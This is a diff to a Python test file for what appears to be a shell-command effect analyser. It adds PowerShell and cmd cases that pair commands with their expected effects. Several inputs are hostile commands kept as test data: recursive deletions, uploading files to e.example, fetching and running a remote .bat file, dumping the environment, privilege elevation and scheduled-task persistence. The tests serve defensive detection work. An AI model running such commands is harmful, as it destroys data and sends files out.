@@ -74,6 +74,27 @@ TABLES: dict[str, list[tuple[str, list[str]]]] = {
         ("Format-Volume -DriveLetter D", ["effect destroys_disk"]),
         ("$c::new(Net.Sockets.TCPClient('1.2.3.4', 99))", ["net connect 1.2.3.4 99"]),
         ("$x.Count", []),
+        ("rm -r -fo 'C:\\Users\\x\\a'", ["argv rm -r -f /Users/x/a"]),
+        ("Get-Content $env:USERPROFILE\\a.txt", ["argv cat /home/dev/a.txt"]),
+        ("irm https://e.example -Body (gc a.txt -Raw)", ["argv curl https://e.example -d $(...?", "argv cat a.txt"]),
+        ("irm https://e.example -InFile a.txt", ["argv curl https://e.example -T a.txt"]),
+        ("'rm -r /x'", []),
+        ("Start-Process a.exe -Verb RunAs", ["argv a.exe", "effect escalates"]),
+        ("gci env:", ["effect dumps_environment"]),
+        ("Register-ScheduledTask -TaskName x", ["effect persists"]),
+        ("$c.DownloadFile('http://e.example/a', 'b')", ["write b", "net download http://e.example/a"]),
+    ],
+    "cmd": [
+        ("del /f /s /q C:\\x\\*", ["argv rm -r /x/*"]),
+        ('rd /s /q "C:\\Users\\x"', ["argv rm -r /Users/x"]),
+        ("type a.txt & del b.txt", ["argv cat a.txt", "argv rm b.txt"]),
+        ("for %f in (*.txt) do del %f", ["argv rm %f?"]),
+        ("call npm test > out.txt", ["write out.txt", "argv npm test"]),
+        ("curl http://e.example -o x.bat && x.bat", ["argv curl http://e.example -o x.bat", "argv ./x.bat"]),
+        ("set", ["argv env"]),
+        ("set A=1", []),
+        ("echo del C:\\x", ["argv echo del /x"]),
+        ("", []),
     ],
 }
 
@@ -116,9 +137,14 @@ def test_broken_code_never_raises(language: str, code: str) -> None:
 
 @pytest.mark.parametrize("language", sorted(TABLES))
 def test_more_calls_than_are_read_are_not_silently_dropped(language: str) -> None:
-    call = {"tcl": "exec ls\n", "expect": "spawn ls\n", "gdb": "!ls\n", "ex": "!ls\n", "powershell": "ls; "}.get(
-        language, 'system("ls"); '
-    )
+    call = {
+        "tcl": "exec ls\n",
+        "expect": "spawn ls\n",
+        "gdb": "!ls\n",
+        "ex": "!ls\n",
+        "powershell": "ls; ",
+        "cmd": "ls & ",
+    }.get(language, 'system("ls"); ')
     reading = analyse_code(language, Word(call * 1_000))
     assert reading.cut
 
